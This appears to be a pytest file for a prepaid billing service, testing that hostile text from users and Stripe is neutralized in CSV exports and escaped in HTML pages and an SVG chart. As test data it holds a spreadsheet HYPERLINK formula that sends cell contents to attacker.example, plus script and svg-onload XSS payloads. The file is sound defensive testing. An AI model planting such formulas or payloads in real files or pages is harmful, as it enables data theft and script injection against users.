"""Hostile strings from users and from Stripe: stored as sent, escaped where shown."""

import csv
import io
import re
from pathlib import Path

import httpx

from tests.conftest import Service
from tests.service.helpers import (
    deliver,
    event_body,
    money_json,
    open_pending_topup,
    payment_intent,
)

PACKAGE = Path(__file__).resolve().parents[2] / "src" / "prepay"
SCRIPT = "<script>alert(1)</script>"
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Refund")'
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def hostile_ledger(service: Service, email: str) -> None:
    """Write entries whose texts come from a task runner and from Stripe."""
    entry = open_pending_topup(service, email, "50.00")
    error = {"code": "card_declined", "decline_code": "-1+1", "message": HYPERLINK}
    failed = payment_intent(entry, "requires_payment_method", last_payment_error=error)
    assert (
        deliver(
            service, event_body("payment_intent.payment_failed", failed)
        ).status_code
        == 200
    )
    paid = open_pending_topup(service, email, "50.00")
    succeeded = payment_intent(paid, description=SCRIPT)
    assert (
        deliver(service, event_body("payment_intent.succeeded", succeeded)).status_code
        == 200
    )

    runner = service.token("runner@example.com", "service")
    with service.client(runner) as client:
        for number, (description, task) in enumerate(
            [(HYPERLINK, "+SUM(1,2)"), (SCRIPT, "@cmd"), ("\t=1+1", "-2")]
        ):
            debit = {
                "userEmail": email,
                "amount": money_json("1.00"),
                "idempotencyKey": f"task-{number}",
                "description": description,
                "metadata": {"taskId": task, "note": SCRIPT},
            }
            response = client.post("/v1/billing/debits", json=debit)
            assert response.status_code == 200, response.text


def test_csv_neutralizes_formulas(bare_service: Service) -> None:
    hostile_ledger(bare_service, "ann@example.com")
    with bare_service.client(bare_service.token("ann@example.com")) as client:
        response = client.get("/v1/billing/transactions.csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    text_columns = ("description", "failure_code", "failure_message", "task_id")

    assert response.status_code == 200
    assert len(rows) == 5
    for row in rows:
        for column in text_columns:
            cell = row[column]
            is_number = PLAIN_NUMBER.fullmatch(cell) is not None
            assert is_number or not cell.startswith(FORMULA_PREFIXES), (column, cell)
    descriptions = {row["description"] for row in rows}
    assert "'" + HYPERLINK in descriptions
    assert "'\t=1+1" in descriptions
    assert {row["failure_message"] for row in rows} >= {"'" + HYPERLINK}
    assert {row["failure_code"] for row in rows} >= {"'-1+1"}
    assert {row["task_id"] for row in rows} >= {"'+SUM(1,2)", "'@cmd", "-2"}


def test_api_returns_text_as_sent(bare_service: Service) -> None:
    hostile_ledger(bare_service, "ben@example.com")
    with bare_service.client(bare_service.token("ben@example.com")) as client:
        response = client.get("/v1/billing/transactions", params={"type": "DEBIT"})

    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    descriptions = {entry["description"] for entry in response.json()["transactions"]}
    assert descriptions == {HYPERLINK, SCRIPT, "\t=1+1"}


def test_page_escapes_hostile_email(bare_service: Service) -> None:
    email = "<svg/onload=alert(1)>@attacker.example"
    with httpx.Client(base_url=bare_service.url) as client:
        signed_in = client.post("/billing/sign-in", data={"email": email})
        page = client.get("/billing")

    assert signed_in.status_code == 303
    assert page.status_code == 200
    assert "<svg" not in page.text
    assert "&lt;svg/onload=alert(1)&gt;@attacker.example" in page.text


def test_chart_ignores_hostile_language(bare_service: Service) -> None:
    hostile_ledger(bare_service, "cat@example.com")
    with httpx.Client(base_url=bare_service.url) as client:
        client.post("/billing/sign-in", data={"email": "cat@example.com"})
        chart = client.get(
            "/billing/spending.svg", headers={"Accept-Language": f"{SCRIPT};q=1"}
        )

    assert chart.status_code == 200
    assert "<script" not in chart.text
    assert "default-src 'none'" in chart.headers["content-security-policy"]


def test_page_code_never_writes_html() -> None:
    sinks = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(")
    scripts = sorted((PACKAGE / "static").glob("*.js"))
    templates = sorted((PACKAGE / "templates").glob("*.html"))

    assert scripts, "no page scripts found"
    for path in scripts:
        assert not sinks.search(path.read_text(encoding="utf-8")), path.name
    for path in templates:
        text = path.read_text(encoding="utf-8")
        assert "|safe" not in text.replace(" ", ""), path.name
        assert "autoescape false" not in text, path.name


def test_invalid_inputs_name_the_field(bare_service: Service) -> None:
    runner = bare_service.token("runner@example.com", "service")
    user = bare_service.token("dan@example.com")
    debit = {
        "userEmail": "dan@example.com",
        "amount": money_json("1.00"),
        "idempotencyKey": "task-1",
    }
    cases = [
        (
            runner,
            "/v1/billing/debits",
            {**debit, "userEmail": "not an email"},
            "userEmail",
        ),
        (
            runner,
            "/v1/billing/debits",
            {**debit, "amount": {"currencyCode": "USD", "units": 1.5}},
            "amount.units",
        ),
        (
            runner,
            "/v1/billing/debits",
            {**debit, "idempotencyKey": "k" * 256},
            "idempotencyKey",
        ),
        (
            runner,
            "/v1/billing/debits",
            {**debit, "description": "d" * 501},
            "description",
        ),
        (runner, "/v1/billing/debits", {**debit, "metadata": {"k": 1}}, "metadata.k"),
        (runner, "/v1/billing/debits", {**debit, "extra": True}, "extra"),
        (
            user,
            "/v1/billing/top-up",
            {"amount": money_json("20.00")},
            "Idempotency-Key",
        ),
        (user, "/v1/billing/top-up", {"amount": money_json("0.50")}, "amount"),
    ]
    for token, path, body, field in cases:
        with bare_service.client(token) as client:
            response = client.post(
                path,
                json=body,
                headers={"Idempotency-Key": "k"} if "Idempotency" not in field else {},
            )

        assert response.status_code == 400, (field, response.text)
        error = response.json()["error"]
        assert error["code"] == "INVALID_ARGUMENT", field
        assert error["details"]["field"] == field, (field, error)
        assert field in error["message"], (field, error)
